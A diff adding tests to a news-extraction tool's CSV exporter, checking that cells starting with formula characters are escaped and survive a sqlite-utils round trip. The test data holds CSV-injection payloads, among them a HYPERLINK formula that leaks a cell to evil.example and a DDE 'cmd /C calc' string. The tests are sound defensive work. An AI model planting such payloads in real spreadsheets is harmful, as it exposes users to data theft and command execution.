@@ -89,3 +89,68 @@ def test_header_only_when_there_is_nothing():
     out = io.BytesIO()
     list(write_csv([], out))
     assert out.getvalue().decode().strip() == ",".join(COLUMNS)
+
+
+# --- formula injection (OWASP "CSV Injection") ------------------------------------------
+
+FORMULA_ARTICLE = {
+    "id": "=1+1", "title": "@SUM(A1:A9)",
+    "text": "Mayor Ana Ruiz spoke in Leeds on Monday. \"=HYPERLINK(A1) was the formula in every one of those "
+            "emails,\" Ruiz said. \"+44 is the code they called from each time,\" she added."}
+
+
+@pytest.mark.parametrize("value, expected", [
+    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
+    ("+44 20 7946 0000", "'+44 20 7946 0000"),
+    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+    ("@SUM(1+1)", "'@SUM(1+1)"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    ("   =1+1", "'   =1+1"),            # blanks first: some programs trim them, then run the rest
+    ("\uff1d1+1", "'\uff1d1+1"),          # a full-width equals sign
+    ("Ana Ruiz", "Ana Ruiz"),              # ordinary text is written as it is
+    ("1 + 1 = 2", "1 + 1 = 2"),            # a formula character later in the text is harmless
+    ("'tis the season", "'tis the season"),
+    ("", ""),
+    (-1.5478, -1.5478),                    # numbers stay numbers: a western longitude, an offset
+    (-3, -3),
+    (None, None),
+])
+def test_cell_guards_only_what_a_spreadsheet_would_run(value, expected):
+    from newsextract.cli.render_csv import cell
+
+    assert cell(value) == expected
+
+
+def test_formula_text_opens_as_text_and_round_trips_through_sqlite_utils(tmp_path):
+    """A quotation, an id and a title that start with a formula character reach the
+    database with one leading quote (so a spreadsheet shows them as text); removing it
+    gives the exact extracted text; coordinates and offsets are untouched."""
+    sqlite_utils = str(BIN / "sqlite-utils") if (BIN / "sqlite-utils").exists() else shutil.which("sqlite-utils")
+    if sqlite_utils is None:
+        pytest.skip("sqlite-utils is not installed (pip install -e '.[test]')")
+    path, db = tmp_path / "feed.jsonl", tmp_path / "facts.db"
+    path.write_text(json.dumps(FORMULA_ARTICLE) + "\n", encoding="utf-8")
+    record = json.loads(subprocess.run([str(BIN / "newsextract"), "parse", str(path), "-f", "jsonl"],
+                                       capture_output=True, text=True).stdout)
+    pipe = subprocess.run(f"'{BIN / 'newsextract'}' parse '{path}' -f csv | '{sqlite_utils}' insert '{db}' facts - --csv",
+                          shell=True, capture_output=True, text=True, executable="/bin/bash")
+    assert pipe.returncode == 0, pipe.stderr
+    con = sqlite3.connect(db)
+    con.row_factory = sqlite3.Row
+    rows = [dict(r) for r in con.execute("select * from facts")]
+    for row in rows:
+        for column, value in row.items():
+            if isinstance(value, str) and value:
+                assert value[0] not in "=+-@\t\r", (column, value)
+    assert {r["article"] for r in rows} == {"'=1+1"}
+    article = next(r for r in rows if r["kind"] == "article")
+    assert article["name"] == "'@SUM(A1:A9)"
+    quotes = [r["text"] for r in rows if r["kind"] == "quote"]
+    assert [q["text"] for q in record["quotes"]] == [q[1:] if q[:1] == "'" else q for q in quotes]
+    assert any(q.startswith("'=HYPERLINK(A1)") for q in quotes)   # the quotation was found and guarded
+    for r in rows:
+        if r["kind"] == "quote":
+            assert FORMULA_ARTICLE["text"][int(r["start"]):int(r["end"])] == r["text"][1:]
+    leeds = next(r for r in rows if r["kind"] == "place" and r["name"] == "Leeds")
+    assert float(leeds["lon"]) < 0 and str(leeds["lon"]).startswith("-")   # a number, not "'-1.5..."
